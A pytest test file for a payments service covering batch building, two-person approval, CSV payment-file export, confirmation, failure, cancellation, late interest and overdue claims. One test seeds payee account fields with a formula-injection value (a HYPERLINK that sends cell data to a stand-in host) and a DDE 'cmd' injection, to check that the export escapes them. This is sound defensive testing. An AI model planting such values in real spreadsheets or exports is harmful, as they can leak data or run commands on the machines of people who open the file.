"""Payment batches and payments: build, approve, export, confirm, fail, cancel, late interest, overdue."""

import csv
import io
from datetime import timedelta
from decimal import Decimal

import pytest
import sqlalchemy as sa
import time_machine

from claims.enums import TimeOfDay
from claims.states import ClaimState
from conflict_service.db import db
from conflict_service.errors import Conflict, Forbidden, InvalidTransition, NotFound, ValidationError
from conflict_service.timeutil import day_start, local_date, local_today, utcnow
from payouts import operations, queries
from payouts.enums import BatchStatus, PaymentMethod, PaymentStatus
from payouts.models import Payment

DAY = {"time_of_day": TimeOfDay.DAY}


@pytest.fixture
def ir(payouts, world):
    payouts.rates(world.ir)
    return world.ir


def payments_of(batch):
    return db.session.scalars(sa.select(Payment).where(Payment.batch_id == batch.id).order_by(Payment.id)).all()


def test_a_batch_takes_every_approved_claim_of_the_programme(payouts, ir):
    one, two = payouts.approved(ir, **DAY), payouts.approved(ir, **DAY)
    waiting = payouts.verified(ir, **DAY)
    batch = payouts.batch(ir, approver=False)
    assert batch.status == BatchStatus.AWAITING_APPROVAL
    assert [p.claim_id for p in payments_of(batch)] == [one.id, two.id]
    assert one.status == two.status == ClaimState.IN_PAYMENT and waiting.status == ClaimState.VERIFIED
    assert [p.status for p in payments_of(batch)] == [PaymentStatus.PENDING] * 2
    with pytest.raises(Conflict, match="Nothing in"):
        payouts.batch(ir)


def test_the_builder_cannot_approve_the_batch(payouts, ir):
    payouts.approved(ir, **DAY)
    batch = payouts.batch(ir, approver=False)
    with pytest.raises(Forbidden, match="You built this batch"):
        operations.approve_batch(batch, ir.manager)
    operations.approve_batch(batch, ir.manager2)
    assert batch.status == BatchStatus.APPROVED
    assert [p.status for p in payments_of(batch)] == [PaymentStatus.SENT]
    with pytest.raises(InvalidTransition, match="approved, payments sent"):
        operations.approve_batch(batch, ir.manager2)


def test_a_claim_named_twice_is_refused_the_second_time(payouts, ir):
    claim = payouts.approved(ir, **DAY)
    payouts.batch(ir, claims=[claim], approver=False)
    with pytest.raises(Conflict, match=claim.number):
        payouts.batch(ir, claims=[claim], approver=False)


def test_the_payment_file_lists_payee_account_amount_currency_reference(payouts, ir, make):
    owner = make.owner(ir.clerk, ir.office, name="=HYPERLINK(1)", phone="+98 915 555 0101")
    banked = make.owner(ir.clerk, ir.office, name="Rahim Asadi")
    operations.set_payout_account(banked, {"method": PaymentMethod.BANK, "bank_name": "Bank Melli",
                                           "account_number": "IR820170000000123456789012"}, ir.clerk)
    a = payouts.approved(ir, owner=owner, **DAY)
    b = payouts.approved(ir, owner=banked, incident_at=utcnow() - timedelta(days=5), **DAY)
    batch = payouts.batch(ir, approver=False)
    with pytest.raises(InvalidTransition, match="once the batch is approved"):
        operations.payment_file(batch, ir.manager)
    operations.approve_batch(batch, ir.manager2)
    rows = list(csv.reader(io.StringIO(operations.payment_file(batch, ir.manager))))
    assert rows == [
        ["payee", "account_or_phone", "amount", "currency", "reference", "method"],
        ["'=HYPERLINK(1)", "+98 915 555 0101", "90000000", "IRR", f"{a.number}-F1", "mobile_money"],
        ["Rahim Asadi", "IR820170000000123456789012", "45000000", "IRR", f"{b.number}-F1", "bank"],
    ]
    assert batch.exported_at is not None


def test_the_payment_file_guards_payee_accounts_against_spreadsheet_formulas(payouts, ir, make):
    # The schemas refuse such accounts, but rows also arrive through imports and older versions: the file guards them.
    banked = make.owner(ir.clerk, ir.office, name="Rahim Asadi")
    operations.set_payout_account(banked, {"method": PaymentMethod.BANK, "bank_name": "Bank Melli",
                                           "account_number": '=HYPERLINK("http://x.ex/?"&A1,"IBAN")'}, ir.clerk)
    phoned = make.owner(ir.clerk, ir.office, name="Zahra Karimi", phone="+98 915 555 0102")
    phoned.phone = "+1+cmd|' /C calc'!A0"
    payouts.approved(ir, owner=banked, **DAY)
    payouts.approved(ir, owner=phoned, incident_at=utcnow() - timedelta(days=5), **DAY)
    batch = payouts.batch(ir)
    accounts = [row[1] for row in csv.reader(io.StringIO(operations.payment_file(batch, ir.manager)))][1:]
    assert accounts == ['\'=HYPERLINK("http://x.ex/?"&A1,"IBAN")', "'+1+cmd|' /C calc'!A0"]


def test_confirming_pays_the_claim_once(payouts, ir):
    claim = payouts.approved(ir, **DAY)
    batch = payouts.batch(ir)
    payment = payments_of(batch)[0]
    operations.confirm_payment(payment, {"reference": "TRX-991", "paid_at": utcnow()}, ir.manager)
    assert claim.status == ClaimState.PAID and payment.status == PaymentStatus.CONFIRMED
    assert payment.external_reference == "TRX-991"
    assert batch.status == BatchStatus.CLOSED
    with pytest.raises(InvalidTransition, match="confirmed; only a sent payment"):
        operations.confirm_payment(payment, {"reference": "TRX-992", "paid_at": utcnow()}, ir.manager)


def test_a_payment_cannot_be_confirmed_before_its_batch_is_approved_or_dated_in_the_future(payouts, ir):
    payouts.approved(ir, **DAY)
    batch = payouts.batch(ir, approver=False)
    payment = payments_of(batch)[0]
    with pytest.raises(InvalidTransition, match="pending"):
        operations.confirm_payment(payment, {"reference": "X", "paid_at": utcnow()}, ir.manager)
    operations.approve_batch(batch, ir.manager2)
    with pytest.raises(ValidationError) as error:
        operations.confirm_payment(payment, {"reference": "X", "paid_at": utcnow() + timedelta(days=2)}, ir.manager)
    assert "future" in str(error.value.errors["paid_at"])
    with pytest.raises(ValidationError):
        operations.confirm_payment(payment, {"reference": "X", "paid_at": utcnow() - timedelta(days=3)}, ir.manager)


def test_a_payment_moment_is_checked_against_the_approval_as_an_instant_and_a_day_as_the_local_day(payouts, ir):
    claim = payouts.approved(ir, **DAY)
    batch = payouts.batch(ir)
    payment = payments_of(batch)[0]
    tz = claim.office.timezone
    approved_day = local_date(batch.approved_at, tz)
    # A moment on the day of the approval but before it is refused: instants are compared, not dates.
    with pytest.raises(ValidationError) as error:
        operations.confirm_payment(payment, {"reference": "X", "paid_at": batch.approved_at - timedelta(minutes=1)},
                                   ir.manager)
    assert "before its batch was approved" in str(error.value.errors["paid_at"])
    assert tz.split("/")[-1] in str(error.value.errors["paid_at"])  # the approval is shown with its zone
    # A day is the office's local day: the day before the approval's is refused, tomorrow is in the future.
    for day, words in ((approved_day - timedelta(days=1), "before its batch"),
                       (local_today(tz) + timedelta(days=1), "future")):
        with pytest.raises(ValidationError) as error:
            operations.confirm_payment(payment, {"reference": "X", "paid_on": day}, ir.manager)
        assert words in str(error.value.errors["paid_on"])
    assert payment.status == PaymentStatus.SENT
    # The approval's own day is accepted; it is recorded at the approval, never before it (its local midnight was).
    operations.confirm_payment(payment, {"reference": "X", "paid_on": approved_day}, ir.manager)
    assert payment.status == PaymentStatus.CONFIRMED and claim.status == ClaimState.PAID
    assert payment.paid_at == batch.approved_at and local_date(payment.paid_at, tz) == approved_day


def test_a_day_after_the_approval_is_recorded_as_its_local_start(payouts, ir):
    tz = payouts.approved(ir, **DAY).office.timezone
    batch = payouts.batch(ir)
    payment = payments_of(batch)[0]
    with time_machine.travel(utcnow() + timedelta(days=3), tick=False):
        day = local_today(tz) - timedelta(days=1)
        operations.confirm_payment(payment, {"reference": "X", "paid_on": day}, ir.manager)
    assert payment.paid_at == day_start(day, tz) and payment.paid_at > batch.approved_at


def test_a_failed_payment_sends_the_claim_back_with_its_reason_and_it_can_be_paid_again(payouts, ir):
    claim = payouts.approved(ir, **DAY)
    batch = payouts.batch(ir)
    payment = payments_of(batch)[0]
    operations.fail_payment(payment, {"reason": "Mobile wallet closed"}, ir.manager)
    assert claim.status == ClaimState.APPROVED
    assert (payment.status, payment.failure_reason) == (PaymentStatus.FAILED, "Mobile wallet closed")
    assert batch.status == BatchStatus.CLOSED
    again = payouts.batch(ir)
    retry = payments_of(again)[0]
    assert retry.reference == f"{claim.number}-F2" and retry.amount == Decimal("90000000")
    operations.confirm_payment(retry, {"reference": "OK", "paid_at": utcnow()}, ir.manager2)
    assert claim.status == ClaimState.PAID
    assert [p.status for p in queries.payments_for(claim.id)] == [PaymentStatus.FAILED, PaymentStatus.CONFIRMED]


def test_cancelling_a_batch_returns_its_claims(payouts, ir):
    claim = payouts.approved(ir, **DAY)
    batch = payouts.batch(ir, approver=False)
    operations.cancel_batch(batch, {"reason": "Wrong programme month"}, ir.manager2)
    assert batch.status == BatchStatus.CANCELLED and claim.status == ClaimState.APPROVED
    assert payments_of(payouts.batch(ir, approver=False))[0].reference == f"{claim.number}-F2"


def test_late_interest_is_added_for_the_days_after_the_due_date(payouts, ir):
    ir.programme.payment_sla_days, ir.programme.late_interest_pct_per_year = 30, Decimal(18)
    claim = payouts.approved(ir, **DAY)  # 90,000,000 due 30 days after approval
    batch = payouts.batch(ir, approver=False)
    with time_machine.travel(utcnow() + timedelta(days=40), tick=False):
        operations.approve_batch(batch, ir.manager2)
    payment = payments_of(batch)[0]
    # 10 days late: 90,000,000 × 18 % × 10 / 365 = 443,835.616… → 443,836
    assert (payment.principal, payment.interest, payment.interest_days) == (
        Decimal("90000000"), Decimal("443836"), 10)
    assert payment.amount == Decimal("90443836")
    assert claim.status == ClaimState.IN_PAYMENT


def test_no_interest_when_paid_in_time_or_the_rate_is_zero(payouts, ir):
    payouts.approved(ir, **DAY)
    batch = payouts.batch(ir, approver=False)
    with time_machine.travel(utcnow() + timedelta(days=60), tick=False):
        operations.approve_batch(batch, ir.manager2)  # late, but the programme's rate is 0 %
    assert payments_of(batch)[0].interest == 0


def test_approved_claims_not_paid_in_time_are_listed_overdue(payouts, ir):
    ir.programme.payment_sla_days = 10
    late = payouts.approved(ir, **DAY)
    with time_machine.travel(utcnow() + timedelta(days=12), tick=False):
        fresh = payouts.approved(ir, **DAY)
        rows = queries.overdue(ir.manager)
        assert [(r.claim.id, r.days_overdue) for r in rows] == [(late.id, 2)]
        assert not any(r.claim.id == fresh.id for r in rows)
        payouts.batch(ir)  # in payment is still not paid
        assert [r.claim.id for r in queries.overdue(ir.manager)] == [late.id]
    assert queries.overdue(ir.manager) == []


def test_batches_of_any_programme_in_ones_jurisdiction_are_visible(payouts, ir, make):
    from tests.payouts.conftest import set_rates

    for n in range(3):  # programme ids that are no jurisdiction's id
        programme = make.programme(ir.country, currency="IRR", name=f"Extra {n}")
    set_rates(programme, {("sheep", "adult"): "1000000"})
    claim = payouts.verified(ir, programme_id=programme.id, **DAY)
    operations.approve_claim(claim, {}, ir.manager)
    batch = operations.build_batch({"programme_id": programme.id}, ir.manager)
    assert queries.get_batch(batch.id, ir.auditor) is batch
    assert [b.id for b in queries.batches_page(ir.auditor).items] == [batch.id]
    with pytest.raises(NotFound):
        queries.get_batch(batch.id, payouts.world.am.manager)


def test_batch_errors_name_only_the_claims_the_manager_may_see(payouts, ir, world):
    payouts.rates(world.am)
    foreign = payouts.approved(world.am, **DAY)
    mine = payouts.approved(ir, **DAY)
    payouts.batch(ir, claims=[mine], approver=False)
    with pytest.raises(Conflict) as refused:
        payouts.batch(ir, claims=[mine, foreign], approver=False)
    assert mine.number in refused.value.message and f"#{foreign.id}" in refused.value.message
    assert foreign.number not in refused.value.message
